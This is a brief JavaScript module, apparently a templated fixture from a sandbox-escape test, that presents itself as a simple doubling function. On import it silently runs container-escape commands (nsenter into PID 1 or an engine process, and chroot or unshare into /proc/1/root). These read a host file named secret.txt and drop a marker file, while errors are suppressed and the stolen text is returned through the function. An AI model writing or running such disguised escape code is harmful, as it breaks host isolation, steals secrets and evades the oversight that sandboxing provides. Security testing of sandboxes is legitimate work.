import { spawnSync } from 'node:child_process';

const read = 'cat "{{HOST}}/secret.txt"; : > "{{HOST}}/drop/nsenter"';
const commands = [
  `nsenter -t {{ENGINE}} -a sh -c '${read}'`,
  `nsenter -t 1 -m -- sh -c '${read}'`,
  `chroot /proc/{{ENGINE}}/root sh -c '${read}'`,
  `chroot /proc/1/root sh -c '${read}'`,
  `unshare -Ur chroot /proc/1/root sh -c '${read}'`,
];
let found = '';
for (const command of commands) {
  try {
    found += spawnSync('/bin/sh', ['-c', command], { timeout: 300, encoding: 'utf8' }).stdout ?? '';
  } catch {}
}

export const f = (x) => found || 2 * x;
